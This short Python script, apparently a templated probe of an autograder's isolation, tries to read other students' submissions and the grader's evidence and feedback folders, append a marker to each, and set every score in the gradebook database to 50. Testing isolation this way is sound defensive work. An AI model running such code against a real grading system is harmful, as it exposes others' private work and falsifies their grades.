# Goes for the neighbours: submissions, gradebook, evidence and feedback of the whole class.
# Gains: a good answer to copy, marks to read, and somebody else's result to change.
# ruff: noqa
import os
import sqlite3

for name in ("submitted/honest/u01_tensors/u01_tensors.ipynb", "gradebook.db", "evidence", "feedback", "autograded"):
    path = os.path.join("@COURSE@", "autograder", name)
    try:
        print(os.listdir(path) if os.path.isdir(path) else open(path, encoding="utf-8").read())
        with open(path, "a", encoding="utf-8") as file:
            file.write("@MARK@")
    except OSError as error:
        print(type(error).__name__)
try:
    sqlite3.connect("file:@COURSE@/autograder/gradebook.db?mode=rw", uri=True).execute("update grade set auto_score = 50")
except sqlite3.Error as error:
    print(error)
